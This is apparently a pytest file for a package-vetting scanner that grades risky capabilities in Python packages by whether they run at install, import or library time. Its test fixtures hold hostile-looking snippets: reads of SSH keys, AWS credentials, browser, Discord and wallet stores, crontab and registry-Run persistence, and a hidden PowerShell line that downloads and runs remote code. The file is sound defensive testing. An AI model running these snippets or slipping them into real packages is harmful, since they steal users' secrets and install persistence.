"""Capability rules: graded by where the code runs; a capability alone in a library is low."""

import pytest

from assay.advisories.severity import Level
from tests.vetting.package_builder import first, rules, vet_sdist, vet_wheel

SETUP = "from setuptools import setup\n{body}\nsetup(name='demo')\n"


def _finding(report, rule):
    return next(f for f in report.findings if f.rule == rule)


@pytest.mark.parametrize(
    ("rule", "body"),
    [
        ("capability-network", "import socket\nsocket.create_connection(('h', 1))"),
        ("capability-network", "import urllib.request as u\nu.urlopen(url)"),
        ("capability-network", "from requests import get\nget(url)"),
        ("capability-process", "import subprocess as sp\nsp.Popen(cmd)"),
        ("capability-process", "import os\nos.popen(cmd)"),
        ("capability-process", "import pty\npty.spawn('/bin/sh')"),
        ("capability-dynamic-code", "exec(payload)"),
        ("capability-dynamic-code", "import marshal\nmarshal.loads(blob)"),
        ("capability-clipboard", "import pyperclip\npyperclip.paste()"),
        ("capability-recon", "import getpass\ngetpass.getuser()"),
    ],
)
def test_capability_in_setup_py_is_install_time(rule, body):
    report = vet_sdist({"setup.py": SETUP.format(body=body)})
    finding = _finding(report, rule)
    assert finding.where == "install"
    assert finding.severity >= Level.MEDIUM


def test_same_capability_inside_a_library_function_is_informational():
    code = "import subprocess\n\ndef version():\n    return subprocess.run(['git', 'describe'])\n"
    report = vet_wheel({"demo/vcs.py": code})
    finding = _finding(report, "capability-process")
    assert finding.where == "library"
    assert finding.severity == Level.NONE
    assert report.score == 0


def test_function_called_at_module_level_counts_as_import_time():
    code = "import subprocess\n\ndef go():\n    subprocess.Popen(cmd)\n\ngo()\n"
    assert _finding(vet_wheel({"demo/__init__.py": code}), "capability-process").where == "import"
    guarded = code.replace("\ngo()\n", "\nif __name__ == '__main__':\n    go()\n")
    assert _finding(vet_wheel({"demo/cli.py": guarded}), "capability-process").where == "library"


def test_dynamic_code_on_literals_is_not_reported():
    report = vet_sdist({"setup.py": SETUP.format(body="exec('x = 1')\n__import__('os')")})
    assert "capability-dynamic-code" not in rules(report)


def test_exec_of_a_version_file_is_not_risky():
    body = "exec(open('demo/_version.py').read())"
    finding = _finding(vet_sdist({"setup.py": SETUP.format(body=body)}), "capability-dynamic-code")
    assert finding.severity == Level.NONE
    assert finding.category == "local-code"


def test_sensitive_paths_at_install_time():
    body = (
        "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "creds = open(os.path.expanduser('~/.aws/credentials')).read()"
    )
    finding = _finding(
        vet_sdist({"setup.py": SETUP.format(body=body)}), "capability-sensitive-read"
    )
    assert finding.severity == Level.HIGH
    benign = "PATH = '~/.config/demo/settings.toml'\n"
    assert "capability-sensitive-read" not in rules(vet_wheel({"demo/config.py": benign}))


def test_bulk_environment_read():
    body = "import os, json\ndata = json.dumps(dict(os.environ))"
    assert "capability-sensitive-read" in rules(vet_sdist({"setup.py": SETUP.format(body=body)}))
    single = "import os\nhome = os.environ.get('HOME')"
    assert "capability-sensitive-read" not in rules(
        vet_sdist({"setup.py": SETUP.format(body=single)})
    )


def test_persistence_at_install_time():
    body = "import os\nos.system('(crontab -l; echo \"@reboot x\") | crontab -')"
    finding = _finding(vet_sdist({"setup.py": SETUP.format(body=body)}), "capability-persistence")
    assert finding.severity == Level.HIGH
    benign = "DOC = 'schedule jobs with your scheduler of choice'\n"
    assert "capability-persistence" not in rules(vet_wheel({"demo/jobs.py": benign}))


def test_windows_run_key_needs_a_registry_write():
    key = r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    writer = f"import winreg\nk = r'{key}'\nwinreg.SetValueEx(h, 'x', 0, 1, path)\n"
    assert "capability-persistence" in rules(vet_wheel({"demo/w.py": writer}))
    reader = f"import winreg\nk = r'{key}'\nwinreg.QueryValueEx(h, 'x')\n"
    assert "capability-persistence" not in rules(vet_wheel({"demo/w.py": reader}))


def test_suspicious_command_line():
    body = "import subprocess\nsubprocess.Popen(['powershell', '-w', 'hidden', '-c', script])"
    finding = _finding(
        vet_sdist({"setup.py": SETUP.format(body=body)}), "capability-suspicious-command"
    )
    assert finding.severity == Level.HIGH
    benign = "import subprocess\nsubprocess.check_output(['git', 'rev-parse', 'HEAD'])"
    assert "capability-suspicious-command" not in rules(
        vet_sdist({"setup.py": SETUP.format(body=benign)})
    )


def test_tests_and_dev_scripts_are_not_import_time():
    code = "import subprocess\nsubprocess.Popen(cmd)\n"
    for path in ("demo/tests/test_x.py", "scripts/release.py", "demo/manual tests/run.py"):
        finding = _finding(vet_wheel({path: code}), "capability-process")
        assert finding.where == "library", path
    assert _finding(vet_wheel({"demo/core.py": code}), "capability-process").where == "import"


def test_hidden_powershell_that_bypasses_the_policy_is_high_even_in_library_code():
    command = 'powershell -W Hidden -Ep Bypass -C "iwr https://example.invalid/a | iex"'
    code = f"import subprocess\n\ndef later():\n    subprocess.Popen({command!r})\n"
    finding = first(vet_wheel({"demo/w.py": code}), "capability-suspicious-command")
    assert finding.severity == Level.HIGH
    plain = code.replace("-W Hidden ", "")
    finding = first(vet_wheel({"demo/w.py": plain}), "capability-suspicious-command")
    assert finding.severity == Level.MEDIUM  # a setup helper running a script: review it


STORES = (
    "'/Google/Chrome/User Data/Default/Login Data', '/discord/Local Storage/leveldb', "
    "'/Exodus/exodus.wallet', '.ssh/id_rsa'"
)


def test_credential_stores_gathered_by_a_small_package_are_high():
    code = f"PATHS = [{STORES}]\n\ndef collect():\n    return [open(p).read() for p in PATHS]\n"
    finding = first(vet_wheel({"demo/c.py": code}), "capability-sensitive-read")
    assert finding.severity == Level.HIGH
    big = {f"demo/m{i}.py": "x = 1\n" for i in range(30)}
    finding = first(vet_wheel({**big, "demo/c.py": code}), "capability-sensitive-read")
    assert finding.severity == Level.MEDIUM  # a framework with a credentials helper


def test_windows_downloader_binaries_are_suspicious_commands():
    code = "import os\nos.system('\"curl.exe -OLJ https://files.example.invalid/a.exe\"')\n"
    finding = first(vet_wheel({"demo/__init__.py": code}), "capability-suspicious-command")
    assert (finding.where, finding.severity) == ("import", Level.HIGH)
    version = "import os\nos.system('curlie --version')\n"
    assert "capability-suspicious-command" not in rules(vet_wheel({"demo/__init__.py": version}))
